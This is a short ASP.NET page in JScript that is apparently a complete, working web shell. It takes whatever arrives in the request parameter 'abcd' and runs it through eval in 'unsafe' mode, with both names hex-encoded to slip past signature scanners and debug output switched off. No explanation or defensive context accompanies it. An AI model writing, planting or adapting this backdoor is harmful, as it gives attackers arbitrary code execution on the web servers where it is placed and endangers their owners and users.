<%@ Page Language="Jscript" Debug=false%>
<%
var c = Request["\x61\x62\x63\x64"];
eval(c, "\x75\x6E\x73\x61" + "\x66\x65");
%>
